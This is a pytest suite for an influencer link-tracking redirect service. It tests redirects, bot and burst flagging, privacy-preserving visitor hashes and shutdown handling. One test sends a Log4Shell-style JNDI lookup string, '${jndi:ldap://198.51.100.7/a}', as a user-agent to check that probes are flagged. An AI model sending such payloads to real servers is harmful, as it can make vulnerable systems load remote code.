"""The redirect ASGI callable, driven in-process over ASGI (the real app, sink and SQLite store)."""

import asyncio
import datetime as dt
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
import sqlalchemy as sa

from influscope.db import tables as t
from influscope.db.tracking import tracking_salts
from influscope.tracking import links
from influscope.tracking.redirect import DailySalt, _Clock, create_redirect_app, visitor_hash
from tests.tracking.user_agents import BOTS, HUMANS

IG = HUMANS["instagram_ios"][0]


@pytest.fixture
def app(engine, seeded):
    links.create_link(engine, campaign="spring", creator="mei-lin", platform="instagram", slug="mei-ig",
                      destination="https://shop.example.com/tea?ref=x#buy")
    redirect = create_redirect_app(engine.url.render_as_string(hide_password=False), cache_ttl=0)
    yield redirect
    redirect.sink.close()


def client(app, ip="168.95.1.1", language: str | None = "zh-TW,zh;q=0.9,en;q=0.8"):
    """A client that sends what a browser sends besides its agent (Accept-Language), unless LANGUAGE is None."""
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app, client=(ip, 50000)),
                             base_url="http://testserver", headers={"accept-language": language} if language else {})


def clicks(engine):
    with engine.connect() as conn:
        return [dict(r) for r in conn.execute(sa.select(t.clicks).order_by(t.clicks.c.id)).mappings()]


def run(coro):
    return asyncio.run(coro)


def test_get_redirects_after_recording_the_click(engine, app, seeded):
    async def go():
        async with client(app) as c:
            return await c.get("/l/default/mei-ig", headers={"user-agent": IG, "referer": "https://l.instagram.com/"})

    r = run(go())
    assert r.status_code == 302
    assert r.headers["cache-control"].startswith("no-store")
    loc = r.headers["location"]
    assert loc.startswith("https://shop.example.com/tea?ref=x&utm_source=instagram&utm_medium=influencer"
                          "&utm_campaign=spring&utm_content=meilin.eats&isc=") and loc.endswith("#buy")
    key = parse_qs(urlsplit(loc).query)["isc"][0]
    [row] = clicks(engine)
    assert row["key"] == key and row["workspace_id"] == seeded["workspace"]
    assert row["is_bot"] is False and row["bot_reason"] is None
    assert (row["country"], row["device"], row["os"], row["app"]) == ("TW", "mobile", "iOS", "Instagram")
    assert row["referrer"] == "https://l.instagram.com/"
    assert (row["user_agent"], row["request_hints"]) == (IG, None)  # what the rules need, never the address
    assert "168.95.1.1" not in str(row)
    assert len(row["visitor_hash"]) == 32
    assert isinstance(row["ts"], dt.datetime) and abs(row["ts"] - dt.datetime.utcnow()) < dt.timedelta(minutes=1)


def test_unknown_slug_is_404_without_any_write(engine, app):
    async def go():
        async with client(app) as c:
            return [await c.get(p, headers={"user-agent": IG}) for p in ("/l/nope", "/l/", "/l/a/b", "/l/%20x")]

    assert [r.status_code for r in run(go())] == [404, 404, 404, 404]
    assert clicks(engine) == []
    with engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(tracking_salts)).scalar() == 0


def test_head_and_options_are_recorded_as_bots_and_post_is_refused(engine, app):
    async def go():
        async with client(app) as c:
            return (await c.head("/l/default/mei-ig", headers={"user-agent": IG}), await c.options("/l/default/mei-ig"),
                    await c.post("/l/default/mei-ig"), await c.get("/l/default/mei-ig/", headers={"user-agent": IG}))

    head, options, post, slash = run(go())
    assert head.status_code == 302 and "utm_content=meilin.eats" in head.headers["location"]
    head_key = parse_qs(urlsplit(head.headers["location"]).query)["isc"][0]
    assert options.status_code == 204 and options.headers["allow"] == "GET, HEAD, OPTIONS"
    assert post.status_code == 405 and post.headers["allow"] == "GET, HEAD, OPTIONS"
    assert slash.status_code == 302
    rows = clicks(engine)
    assert [(r["is_bot"], r["bot_reason"], r["request_hints"]) for r in rows] == [
        (True, "method:head", "head"), (True, "method:options", "options"), (False, None, None)]
    assert rows[0]["key"] == head_key and rows[0]["app"] == "Instagram"


def test_bots_are_recorded_and_flagged(engine, app):
    async def go():
        async with client(app) as c:
            await c.get("/l/default/mei-ig", headers={"user-agent": BOTS["facebookexternalhit"][0]})
            await c.get("/l/default/mei-ig", headers={"user-agent": HUMANS["facebook_ios"][0], "x-purpose": "preview"})
            await c.get("/l/default/mei-ig", headers={"user-agent": ""})
            await c.get("/l/default/mei-ig", headers={"user-agent": "${jndi:ldap://198.51.100.7/a}"})
        async with client(app, language=None) as c:
            await c.get("/l/default/mei-ig", headers={"user-agent": HUMANS["chrome_windows"][0]})

    run(go())
    assert [(r["is_bot"], r["bot_reason"], r["request_hints"]) for r in clicks(engine)] == [
        (True, "list:crawlerdetect", None), (True, "header:prefetch", "prefetch"), (True, "rule:empty", None),
        (True, "rule:probe", None), (True, "signal:no-accept-language", "no-accept-language")]


def test_a_burst_from_one_visitor_on_one_link_is_suspect(engine, app, seeded):
    links.create_link(engine, campaign="spring", platform="tiktok", slug="other", destination="https://x.example/")

    async def go():
        async with client(app, "168.95.1.1") as c:
            for _ in range(7):
                await c.get("/l/default/mei-ig", headers={"user-agent": IG})
            await c.get("/l/default/other", headers={"user-agent": IG})  # another link: its own count
        async with client(app, "8.8.8.8") as c:
            await c.get("/l/default/mei-ig", headers={"user-agent": IG})  # another visitor

    run(go())
    rows = clicks(engine)
    assert [r["bot_reason"] for r in rows] == [None] * 4 + ["signal:burst"] * 3 + [None, None]
    assert rows[4]["is_bot"] is True and rows[4]["request_hints"] is None  # a burst is no request hint


def test_visitor_hash_is_stable_per_visitor_and_the_ip_is_not_stored(engine, app):
    async def go():
        async with client(app, "168.95.1.1") as c:
            await c.get("/l/default/mei-ig", headers={"user-agent": IG})
            await c.get("/l/default/mei-ig", headers={"user-agent": IG})
            await c.get("/l/default/mei-ig", headers={"user-agent": HUMANS["chrome_windows"][0]})
        async with client(app, "8.8.8.8") as c:
            await c.get("/l/default/mei-ig", headers={"user-agent": IG})

    run(go())
    rows = clicks(engine)
    hashes = [r["visitor_hash"] for r in rows]
    assert hashes[0] == hashes[1] and len(set(hashes)) == 3
    assert [r["country"] for r in rows] == ["TW", "TW", "TW", "US"]
    dump = "\n".join(engine.raw_connection().driver_connection.iterdump())
    assert "168.95.1.1" not in dump and "8.8.8.8" not in dump


def test_salt_rotates_daily_and_old_salts_are_deleted(engine):
    salts = DailySalt(engine)
    day1 = salts.for_day(dt.date(2026, 3, 1))
    assert salts.for_day(dt.date(2026, 3, 1)) == day1
    assert DailySalt(engine).for_day(dt.date(2026, 3, 1)) == day1  # shared by every process
    day2 = salts.for_day(dt.date(2026, 3, 2))
    assert day2 != day1 and len(day2) == 32
    with engine.connect() as conn:
        assert conn.execute(sa.select(tracking_salts.c.day)).scalars().all() == [dt.date(2026, 3, 2)]


def test_forwarded_for_is_used_only_behind_a_trusted_proxy(engine, seeded):
    links.create_link(engine, campaign="spring", platform="tiktok", slug="t1", destination="https://x.example/")
    url = engine.url.render_as_string(hide_password=False)
    trusting = create_redirect_app(url, trusted_proxies="127.0.0.1")
    plain = create_redirect_app(url, trusted_proxies="")

    async def go():
        for app in (trusting, plain):
            async with client(app, "127.0.0.1") as c:
                await c.get("/l/default/t1", headers={"user-agent": IG, "x-forwarded-for": "213.42.20.20"})

    try:
        run(go())
    finally:
        trusting.sink.close()
        plain.sink.close()
    assert [r["country"] for r in clicks(engine)] == ["AE", None]


def test_concurrent_clicks_are_each_stored_exactly_once(engine, app):
    async def go():
        async with client(app) as c:
            return await asyncio.gather(*(c.get("/l/default/mei-ig", headers={"user-agent": IG}) for _ in range(300)))

    responses = run(go())
    keys = [parse_qs(urlsplit(r.headers["location"]).query)["isc"][0] for r in responses]
    assert all(r.status_code == 302 for r in responses)
    stored = [r["key"] for r in clicks(engine)]
    assert sorted(stored) == sorted(keys) and len(set(keys)) == 300


def test_a_click_that_cannot_be_stored_gets_503_and_others_still_succeed(engine, app, seeded):
    links.create_link(engine, campaign="spring", platform="tiktok", slug="gone", destination="https://x.example/")
    app.links.ttl = 60  # keep 'gone' cached after it is deleted, so the insert hits the foreign key

    async def go():
        async with client(app) as c:
            await c.head("/l/default/gone")  # caches the link
            with engine.begin() as conn:
                conn.execute(t.links.delete().where(t.links.c.key == "gone"))
            return await asyncio.gather(*(c.get(s, headers={"user-agent": IG})
                                          for s in ["/l/default/mei-ig"] * 5 + ["/l/default/gone"] + ["/l/default/mei-ig"] * 5))

    responses = run(go())
    assert [r.status_code for r in responses] == [302] * 5 + [503] + [302] * 5
    assert responses[5].headers["retry-after"] == "1"
    assert len(clicks(engine)) == 10


def test_changed_destination_is_served_after_the_cache_ttl(engine, app):
    async def go():
        async with client(app) as c:
            first = await c.head("/l/default/mei-ig")
            with engine.begin() as conn:
                conn.execute(t.links.update().where(t.links.c.key == "mei-ig")
                             .values(destination_url="https://new.example/"))
            return first, await c.head("/l/default/mei-ig")

    first, second = run(go())  # cache_ttl=0 in this fixture
    assert first.headers["location"].startswith("https://shop.example.com/")
    assert second.headers["location"].startswith("https://new.example/?utm_source=instagram")


def test_non_ascii_destination(engine, app, seeded):
    links.create_link(engine, campaign="spring", platform="instagram", slug="zh",
                      destination="https://例子.测试/茶?口味=綠茶")

    async def go():
        async with client(app) as c:
            return await c.get("/l/default/zh", headers={"user-agent": IG})

    loc = run(go()).headers["location"]
    assert loc.startswith("https://xn--fsqu00a.xn--0zwm56d/%E8%8C%B6?%E5%8F%A3%E5%91%B3=%E7%B6%A0%E8%8C%B6&utm_")


def test_links_only_dispatcher_serves_the_redirect(engine, app, monkeypatch):
    from influscope import config
    from influscope.web.app import create_links_only

    monkeypatch.setattr(config, "_override", None)
    monkeypatch.setenv("INFLUSCOPE_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    server = create_links_only()

    async def go():
        async with client(server) as c:
            return await c.get("/l/default/mei-ig", headers={"user-agent": IG}), await c.get("/healthz")

    try:
        hit, other = run(go())
    finally:
        server.redirect.sink.close()
    assert hit.status_code == 302 and other.status_code == 404
    assert len(clicks(engine)) == 1


@pytest.mark.parametrize("links_only", [True, False])
def test_server_shutdown_closes_the_click_sink(engine, app, links_only):
    """The lifespan reaches the redirect in both server modes: at shutdown its sink writes what is pending
    and closes, so a request that still arrives afterwards gets 503, not a redirect whose click is lost."""
    from influscope.web.app import Dispatcher, create_app

    server = Dispatcher(app, None if links_only else create_app())

    async def go():
        inbox: asyncio.Queue = asyncio.Queue()
        sent: list[str] = []

        async def send(message):
            sent.append(message["type"])

        lifespan = asyncio.create_task(server({"type": "lifespan", "asgi": {"version": "3.0"}, "state": {}},
                                              inbox.get, send))
        await inbox.put({"type": "lifespan.startup"})
        async with client(server) as c:
            before = await c.get("/l/default/mei-ig", headers={"user-agent": IG})
            await inbox.put({"type": "lifespan.shutdown"})
            await asyncio.wait_for(lifespan, 10)
            after = await c.get("/l/default/mei-ig", headers={"user-agent": IG})
        return sent, before.status_code, after.status_code

    sent, before, after = run(go())
    assert sent == ["lifespan.startup.complete", "lifespan.shutdown.complete"]
    assert (before, after) == (302, 503)
    assert len(clicks(engine)) == 1


def test_agent_and_hints_are_read_from_the_raw_headers_as_the_rules_define_them(engine, app):
    """Non-ASCII agent bytes (read as Latin-1), a prefetch header given twice (the last counts), a
    blank Accept-Language: stored, hashed and classified as the bot rules and visitor_hash define them."""
    agent = b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148 Caf\xc3\xa9App/2.1 \xff "

    async def go():
        async with client(app, "168.95.1.1") as c:
            await c.get("/l/default/mei-ig", headers=[(b"user-agent", agent)])
            await c.get("/l/default/mei-ig", headers=[(b"user-agent", agent), (b"purpose", b"prefetch"),
                                                       (b"purpose", b"navigate")])
            await c.get("/l/default/mei-ig", headers=[(b"user-agent", agent), (b"x-moz", b"navigate"),
                                                       (b"X-Moz", b"PreFetch")])
        async with client(app, "168.95.1.1", language=None) as c:  # Latin-1 no-break space: blank
            await c.get("/l/default/mei-ig", headers=[(b"user-agent", agent), (b"accept-language", b"\xa0")])

    run(go())
    rows = clicks(engine)
    stored = agent.decode("latin-1").strip()
    assert {r["user_agent"] for r in rows} == {stored}
    assert [r["request_hints"] for r in rows] == [None, None, "prefetch", "no-accept-language"]
    assert rows[2]["bot_reason"] == "header:prefetch"
    salt = DailySalt(engine).for_day(rows[0]["ts"].date())
    assert {r["visitor_hash"] for r in rows} == {visitor_hash(salt, "168.95.1.1", stored, rows[0]["workspace_id"])}
    assert rows[0]["visitor_hash"] != visitor_hash(salt, "168.95.1.1", agent.decode("utf-8", "replace").strip(),
                                                   rows[0]["workspace_id"])


def test_click_times_are_the_utc_time_of_the_request():
    clock = _Clock()
    for seconds in (0.0, 1_764_900_000.999999, 1_764_900_001.5, 1_764_900_001.000001, 4_102_444_799.25):
        expected = dt.datetime.fromtimestamp(seconds, dt.timezone.utc).replace(tzinfo=None)
        assert abs(clock.naive_utc(seconds) - expected) <= dt.timedelta(microseconds=1)
